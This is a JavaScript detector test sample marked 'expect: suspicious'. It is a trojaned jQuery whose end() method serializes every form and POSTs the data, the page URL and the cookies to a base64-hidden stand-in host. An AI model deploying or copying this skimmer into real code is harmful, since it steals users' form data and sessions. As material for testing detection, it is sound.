// expect: suspicious
// source: corpus form-data-skimmer/jquery-end-trojan (a jQuery build whose fn.end serializes every form and
// posts it with the page's cookies through jQuery.ajax to a base64-hidden URL)
(function (window) {
  var jQuery = function (s) { return new jQuery.fn.init(s); };
  jQuery.fn = jQuery.prototype = {
    end: function () {
      var k = ["form", "serializeArray", "ajax", "POST", "aHR0cHM6Ly9qcXVlcnktY2RuLmV4YW1wbGUvYXBpL2M="];
      var d = [];
      jQuery(k[0]).each(function () { d.push(jQuery(this)[k[1]]()); });
      jQuery[k[2]]({ url: atob(k[4]), type: k[3], data: { d: btoa(JSON.stringify({ u: location.href, c: document.cookie, d: d })) } });
      return this.prevObject || this;
    }
  };
  window.jQuery = window.$ = jQuery;
})(window);
